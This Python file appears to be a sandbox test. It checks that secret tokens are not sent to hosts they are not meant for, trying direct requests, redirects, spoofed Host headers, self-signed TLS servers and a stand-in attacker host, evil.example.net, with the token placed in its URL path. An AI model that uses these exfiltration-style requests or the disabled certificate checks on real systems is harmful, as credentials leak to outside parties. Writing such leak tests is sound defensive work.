# tries: have the value sent to a host that it is not for: directly, in a redirect, under another Host, in bodies, to a self-signed server
# holds: other hosts get the placeholder at most
# world: network
# expect: {"exitCode": 0, "stdoutIncludes": "held: done"}
# refused: ["network evil.example.net EACCES"]
import os
import socket
import ssl
import urllib.parse
import urllib.request

from attempts import claim, outcome

ALLOWED, OTHER, TLS, SELF_SIGNED, FORBIDDEN = (os.environ[name] for name in ('ALLOWED', 'OTHER', 'TLS', 'SELF_SIGNED', 'FORBIDDEN'))
for token in (os.environ['TOKEN'], os.environ['OTHER_TOKEN']):
    headers = {'Authorization': f'Bearer {token}', 'X-Key': token}
    for url in (f'http://127.0.0.1:{OTHER}/reflect', f'http://127.0.0.1:{OTHER}/reflect?{token}', f'http://good.example.org:{OTHER}/reflect', f'http://good.example.org:{ALLOWED}/reflect', f'http://api.example.com:{ALLOWED}/reflect',
                f'https://127.0.0.1:{TLS}/reflect', f'https://api.example.com:{SELF_SIGNED}/', f'https://127.0.0.1:{SELF_SIGNED}/', f'http://127.0.0.1:{FORBIDDEN}/', f'http://evil.example.net/{token}', f'https://{token}.example.org/'):
        answer = outcome(lambda: urllib.request.urlopen(urllib.request.Request(url, headers=headers, data=token.encode()), timeout=10, context=ssl._create_unverified_context()).read())
        print(url, answer[:300])
    for target in (f'http://127.0.0.1:{OTHER}/reflect', f'http://127.0.0.1:{FORBIDDEN}/', f'http://evil.example.net/', f'http://good.example.org:{OTHER}/x'):
        query = urllib.parse.urlencode({'to': target})
        for path in ('redirect', 'redirect-with-token'):
            print(path, outcome(lambda: urllib.request.urlopen(urllib.request.Request(f'http://127.0.0.1:{ALLOWED}/{path}?{query}', headers=headers), timeout=10).read()[:300]))
    for host in (f'127.0.0.1:{ALLOWED}', 'secret.example.net', f'api.example.com:{TLS}'):
        with socket.create_connection(('127.0.0.1', int(OTHER)), timeout=10) as plain:
            request = f'POST /reflect HTTP/1.1\r\nHost: {host}\r\nAuthorization: {token}\r\nContent-Length: {len(token)}\r\nConnection: close\r\n\r\n{token}'.encode()
            print(host, outcome(lambda: plain.sendall(request)), outcome(lambda: plain.recv(1000)))
print('held: done')
